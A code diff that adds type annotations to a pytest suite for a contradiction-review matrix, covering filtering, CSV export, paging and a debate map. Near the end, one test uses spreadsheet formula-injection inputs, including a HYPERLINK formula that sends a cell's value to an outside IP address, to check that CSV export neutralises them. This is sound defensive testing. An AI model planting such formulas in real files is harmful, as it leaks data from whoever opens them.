@@ -2,10 +2,13 @@ import csv
 import io
 import json
 from dataclasses import replace
+from pathlib import Path
+from typing import Any
 
 import pandas as pd
 import pytest
 
+from engine import Workspace
 from engine.review.contest import ContestScope
 from engine.review.matrix import (
     Page,
@@ -36,7 +39,7 @@ OVERLAY = Overlay("t", "offline", {}, {}, 0.0, (FOR, ALSO_FOR, AGAINST, SIDE))
 
 
 @pytest.fixture
-def workspace(lab_path):
+def workspace(lab_path: Path) -> Workspace:
     return load_workspace(lab_path)
 
 
@@ -51,11 +54,13 @@ def workspace(lab_path):
     ],
     ids=["any-contradiction", "strong-and-confident", "weak-claim", "unsure", "unknown-strength"],
 )
-def test_is_high_value(relation, strength, confidence, expected):
+def test_is_high_value(
+    relation: str, strength: float | None, confidence: float, expected: bool
+) -> None:
     assert is_high_value(relation, strength, confidence) is expected
 
 
-def test_frame_has_one_row_per_edge_with_titles_and_flags(workspace):
+def test_frame_has_one_row_per_edge_with_titles_and_flags(workspace: Workspace) -> None:
     frame = matrix_frame(OVERLAY, workspace)
     assert len(frame) == 4
     row = frame.iloc[2]
@@ -91,7 +96,9 @@ def test_frame_has_one_row_per_edge_with_titles_and_flags(workspace):
         "id", "pending",
     ],
 )  # fmt: skip
-def test_filters_change_the_row_count(workspace, filters, rows):
+def test_filters_change_the_row_count(
+    workspace: Workspace, filters: dict[str, Any], rows: int
+) -> None:
     frame = matrix_frame(
         OVERLAY,
         workspace,
@@ -101,25 +108,25 @@ def test_filters_change_the_row_count(workspace, filters, rows):
     assert len(filter_frame(frame, **filters)) == rows
 
 
-def test_dismissed_contradiction_is_not_contested_and_triage_shows(workspace):
+def test_dismissed_contradiction_is_not_contested_and_triage_shows(workspace: Workspace) -> None:
     triage = {AGAINST.key: TriageDecision.DISMISSED}
     frame = matrix_frame(OVERLAY, workspace, triage=triage)
     assert not frame["contested"].any()
     assert frame["triage"].tolist() == ["", "", "dismissed", ""]
 
 
-def test_empty_overlay_gives_an_empty_typed_frame(workspace):
+def test_empty_overlay_gives_an_empty_typed_frame(workspace: Workspace) -> None:
     frame = matrix_frame(None, workspace)
     assert frame.empty and frame["confidence"].dtype == float
     assert len(filter_frame(frame, high_value_only=True)) == 0
 
 
-def test_csv_has_a_header_and_a_line_per_row(workspace):
+def test_csv_has_a_header_and_a_line_per_row(workspace: Workspace) -> None:
     lines = to_csv(matrix_frame(OVERLAY, workspace)).splitlines()
     assert lines[0].startswith("edge_id,memory_id,memory_title") and len(lines) == 5
 
 
-def test_debate_map_per_canon_claim():
+def test_debate_map_per_canon_claim() -> None:
     confirmed = EdgeKey("chk-2024-q1", "finance", "z-sig-03")
     triage = {confirmed: TriageDecision.CONFIRMED}
     entries = {e.canon_address: e for e in debate_map(OVERLAY, triage=triage)}
@@ -137,7 +144,7 @@ def test_debate_map_per_canon_claim():
     assert entries["zk:finance:z-sig-03"].contradicting == ("chk-2024-q1",)
 
 
-def test_debate_map_keeps_dismissed_apart():
+def test_debate_map_keeps_dismissed_apart() -> None:
     entries = debate_map(
         OVERLAY, triage={AGAINST.key: TriageDecision.DISMISSED}, scope=ContestScope.UNREVIEWED
     )
@@ -145,7 +152,7 @@ def test_debate_map_keeps_dismissed_apart():
     assert (mom.contradicting, mom.dismissed, mom.contested) == ((), ("exp-2009-backtest",), False)
 
 
-def test_repeated_titles_get_distinct_labels():
+def test_repeated_titles_get_distinct_labels() -> None:
     labels = distinct_labels(
         {"a": "Birth-weight is associated with later outcomes in two cohorts", "b": "Birth-weight "
          "is associated with later outcomes in three cohorts", "c": "Other"},
@@ -165,13 +172,15 @@ def test_repeated_titles_get_distinct_labels():
     ],
     ids=["first", "last", "past-the-end-clamps", "empty"],
 )
-def test_pages_count_truthfully(total, number, size, expected, caption):
+def test_pages_count_truthfully(
+    total: int, number: int, size: int, expected: tuple[int, int, int, int], caption: str
+) -> None:
     page = Page.of(total, number, size)
     assert (page.number, page.pages, page.start, page.stop) == expected
     assert page.caption("rows") == caption
 
 
-def test_queue_sorts_and_pages(workspace):
+def test_queue_sorts_and_pages(workspace: Workspace) -> None:
     frame = matrix_frame(OVERLAY, workspace, triage={AGAINST.key: TriageDecision.DISMISSED})
     assert list(sort_queue(frame, QueueOrder.CONFIDENCE)["confidence"]) == [0.9, 0.7, 0.6, 0.6]
     decided = sort_queue(frame, QueueOrder.PENDING)["edge_id"].tolist()
@@ -187,7 +196,7 @@ def test_queue_sorts_and_pages(workspace):
     ['=HYPERLINK("http://203.0.113.9/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"],
     ids=["hyperlink", "plus", "minus", "at", "tab", "carriage-return"],
 )
-def test_csv_neutralises_formula_prefixes(lab_path, title):
+def test_csv_neutralises_formula_prefixes(lab_path: Path, title: str) -> None:
     note = lab_path / ".memory/chk-2024-q1.md"
     text = note.read_text(encoding="utf-8")
     start = text.index("title:")
